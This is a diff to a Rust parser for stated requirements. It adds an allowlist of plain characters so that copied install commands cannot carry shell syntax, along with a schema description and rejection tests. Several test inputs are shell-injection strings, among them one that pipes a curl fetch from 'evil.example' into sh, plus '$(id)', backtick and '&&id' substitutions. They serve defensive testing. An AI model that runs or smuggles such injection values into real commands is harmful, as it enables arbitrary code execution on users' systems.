@@ -116,6 +116,22 @@ impl FromStr for StatedRequirement {
         if is_bare || source.starts_with('-') || source.chars().any(char::is_whitespace) {
             return Err(format!("names no source in {}", quoted(text)));
         }
+        // Commands are shown for people and agents to copy, so nothing that a shell would act on may
+        // be part of them. No source and no tag needs more.
+        let is_plain = |text: &str| {
+            text.bytes()
+                .all(|byte| byte.is_ascii_alphanumeric() || b"._~:/@+-".contains(&byte))
+        };
+        let is_name_plain = match &accepted {
+            Accepted::Revision(name) => is_plain(name),
+            Accepted::Any | Accepted::Range(_) => true,
+        };
+        if !is_plain(source) || !is_name_plain {
+            return Err(format!(
+                "has other characters than letters, digits and ._~:/@+- in {}",
+                quoted(text)
+            ));
+        }
         Ok(Self {
             source: source.to_owned(),
             accepted,
@@ -223,7 +239,10 @@ impl JsonSchema for Need {
     }
 
     fn json_schema(_: &mut schemars::SchemaGenerator) -> schemars::Schema {
-        schemars::json_schema!({"type": "string"})
+        schemars::json_schema!({
+            "type": "string",
+            "description": "A program, or a variable of the environment with a `$` before its name.",
+        })
     }
 }
 
@@ -349,6 +368,18 @@ https://docs.example.com/pdf.zip | https://docs.example.com/pdf.zip | any
             ("github:a/b@v1 v2", "names no branch"),
             ("github:a/b@^x", "is no range"),
             ("github:a/b@>=2 <1", "excludes every version"),
+            ("github:a/b;curl${IFS}evil.example|sh", "other characters"),
+            ("github:a/b@v1;id|sh", "other characters"),
+            ("github:a/b@$(id)", "other characters"),
+            ("github:a/b#`id`", "other characters"),
+            ("./b`id`", "other characters"),
+            (
+                "https://docs.example.com/$(id)/SKILL.md",
+                "other characters",
+            ),
+            ("github:a/b'&&id", "other characters"),
+            ("github:a/b\\x", "other characters"),
+            ("github:a/\u{f6}", "other characters"),
             ("github:a/b\u{202e}", "hidden characters"),
             ("github:a/b\u{7}", "hidden characters"),
         ] {
